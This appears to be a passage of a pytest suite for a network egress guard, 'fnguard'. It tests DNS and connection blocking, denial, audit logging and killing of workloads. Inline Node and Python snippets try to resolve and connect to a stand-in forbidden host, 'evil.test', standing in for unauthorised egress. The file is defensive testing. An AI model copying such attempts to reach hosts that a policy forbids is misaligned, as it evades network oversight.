    res = guard(run_fnguard, w, policy("api.allowed.test:8080", "v4.allowed.test",
                                       "tcp.allowed.test", action="deny"),
                [NODE, "-e", NODE_DNS])
    assert res.returncode == 0, ctx(res, w)
    out = json.loads(res.stdout)
    assert out == {"lookup": ADDR["http"], "resolve4": [ADDR["http"]],
                   "resolve_tc": [ADDR["http"]], "resolve_evil": "ENOTFOUND",
                   "lookup_evil": "ENOTFOUND", "http": 200}, ctx(res, w)
    assert names_like(w, "evil") == [], ctx(res, w)
    assert w.dns_queries("api.allowed.test") and w.dns_queries("v4.allowed.test")
    assert {q["transport"] for q in w.dns_queries("tcp.allowed.test")} == {"udp", "tcp"}
    assert {e["name"] for e in res.of("dns", action="deny")} == {"evil.test", "www.evil.test"}
    assert [r["path"] for r in w.http_requests()] == ["/node-after"]


@pytest.mark.parametrize("how", ["lookup", "resolve4"])
def test_node_unknown_domain_killed(run_fnguard, networld, how):
    w = networld
    src = (f"require('dns').{how}('evil.test', (e, a) => {{"
           "  const c = require('net').connect(443, Array.isArray(a) ? a[0] : a);"
           "  c.on('connect', () => c.destroy()).on('error', () => {});"
           "  console.log('resolved', e && e.code, a); });")
    res = guard(run_fnguard, w, policy("api.allowed.test"), [NODE, "-e", src])
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert "resolved" not in res.stdout, ctx(res, w)
    assert names_like(w, "evil") == [] and w.connections() == [], ctx(res, w)
    assert res.of("dns", action="kill", name="evil.test"), res.dump()
    p = bare(w, [NODE, "-e", src])
    assert "resolved null" in p.stdout, p.stdout + p.stderr
    assert w.dns_queries("evil.test") and w.connections("forbidden", port=443), w.dump()


# ---- deny and audit ----------------------------------------------------------------

PY_MIXED = r"""
import socket, sys, urllib.request
try:
    socket.getaddrinfo("evil.test", 80); print("evil resolved")
except socket.gaierror as e:
    print("evil gai", e.errno)
try:
    socket.create_connection((sys.argv[1], 443), timeout=5).close(); print("forbidden ok")
except OSError as e:
    print("forbidden err", e.errno)
print(urllib.request.urlopen("http://api.allowed.test/after", timeout=10).read().decode().strip())
"""


def test_deny_mode_workload_goes_on(run_fnguard, networld):
    w = networld
    res = guard(run_fnguard, w, policy("api.allowed.test:80", action="deny"),
                [PY, "-c", PY_MIXED, ADDR["forbidden"]])
    assert res.returncode == 0, ctx(res, w)
    out = res.stdout.split("\n")
    assert out[0] == f"evil gai {socket.EAI_NONAME}", ctx(res, w)
    assert out[1] == f"forbidden err {EPERM}", ctx(res, w)
    assert out[2].startswith("networld ok ") and out[2].endswith(" /after"), ctx(res, w)
    assert names_like(w, "evil") == [], ctx(res, w)
    assert w.connections("forbidden") == [], ctx(res, w)
    assert [r["path"] for r in w.http_requests("http")] == ["/after"]
    assert {e["name"] for e in res.of("dns", action="deny")} == {"evil.test"}, res.dump()
    ev = res.one("connect", action="deny")
    assert (ev["addr"], ev["port"], ev["domain"]) == (ADDR["forbidden"], 443, None)
    assert res.one("exit")["status"] == 0


def test_audit_mode_logs_and_lets_through(run_fnguard, networld):
    w = networld
    argv = [PY, "-c", PY_MIXED + r"""
print(urllib.request.urlopen("http://evil.test/audit", timeout=10).read().decode().strip())
""", ADDR["forbidden"]]
    res = guard(run_fnguard, w, policy("api.allowed.test:80"), argv, mode="audit")
    assert res.returncode == 0, ctx(res, w)
    out = res.stdout.split("\n")
    assert out[0] == "evil resolved" and out[1] == "forbidden ok", ctx(res, w)
    assert out[3].endswith(" /audit"), ctx(res, w)
    assert w.dns_queries("evil.test"), ctx(res, w)
    assert {c["port"] for c in w.connections("forbidden")} == {443, 80}, ctx(res, w)
    assert res.of("dns", action="audit", name="evil.test"), res.dump()
    audited = res.of("connect", action="audit")
    assert {(e["addr"], e["port"]) for e in audited} >= {(ADDR["forbidden"], 443),
                                                         (ADDR["forbidden"], 80)}, res.dump()
    assert not res.of("connect", action="kill") and not res.of("dns", action="kill")
    assert not res.of("connect", action="deny") and not res.of("dns", action="deny")


def test_audit_connect_names_the_domain(run_fnguard, networld):
    w = networld
    res = guard(run_fnguard, w, policy("api.allowed.test:80"),
                [PY, "-c", PY_URLLIB, "http://evil.test/audit"], mode="audit")
    assert res.returncode == 0 and w.connections("forbidden"), ctx(res, w)
    tcp = res.of("connect", action="audit", proto="tcp")
    assert tcp and all(e["domain"] == "evil.test" for e in tcp), res.dump()


def test_audit_dns_line_does_not_claim_never_upstream(run_fnguard, networld):
    """In audit the name IS forwarded: the line must not say otherwise."""
    w = networld
    res = guard(run_fnguard, w, policy("api.allowed.test:80"),
                [PY, "-c", PY_NAMES, "evil.test"], mode="audit")
    assert res.returncode == 0 and w.dns_queries("evil.test"), ctx(res, w)
    ev = res.of("dns", action="audit", name="evil.test")
    assert ev and not any("never sent upstream" in e.get("reason", "") for e in ev), res.dump()


# ---- domain attribution ----------------------------------------------------------

def test_refused_port_on_learned_address_names_the_domain(run_fnguard, networld):
    w = networld
    src = r"""
import socket
a = socket.getaddrinfo("v4.allowed.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
for port in (8080, 80):
    try:
        socket.create_connection((a, port), timeout=5).close(); print(port, "ok")
    except OSError as e:
        print(port, "err", e.errno)
"""
    res = guard(run_fnguard, w, policy("v4.allowed.test:80", action="deny"), [PY, "-c", src])
    assert res.returncode == 0, ctx(res, w)
    assert res.stdout.split("\n")[:2] == [f"8080 err {EPERM}", "80 ok"], ctx(res, w)
    assert [c["port"] for c in w.connections("http")] == [80], ctx(res, w)
    ev = res.one("connect", action="deny")
    assert (ev["proto"], ev["addr"], ev["port"], ev["domain"]) == (
        "tcp", ADDR["http"], 8080, "v4.allowed.test"), ev
    # kill: the same connect ends the run, the domain named.
    res = guard(run_fnguard, w, policy("v4.allowed.test:80"), [PY, "-c", src])
    assert res.returncode == EXIT_VIOLATION, ctx(res, w)
    assert res.one("connect", action="kill")["domain"] == "v4.allowed.test"
    assert [c["port"] for c in w.connections("http")] == [80], ctx(res, w)
    p = bare(w, [PY, "-c", src])
    assert "8080 ok" in p.stdout, p.stdout + p.stderr


# ---- resolver over IPv6 -----------------------------------------------------------

def test_ipv6_nameserver(run_fnguard, networld_factory):
    w = networld_factory(nameservers=[ADDR6["resolver"]])
    res = guard(run_fnguard, w, policy("api.allowed.test:80", action="deny"),
                [PY, "-c", PY_MIXED, ADDR["forbidden"]])
    assert res.returncode == 0, ctx(res, w)
    out = res.stdout.split("\n")
    assert out[0] == f"evil gai {socket.EAI_NONAME}" and out[2].endswith(" /after"), ctx(res, w)
    assert w.dns_queries("api.allowed.test", to="resolver"), ctx(res, w)
    assert names_like(w, "evil") == [] and w.connections("forbidden") == [], ctx(res, w)
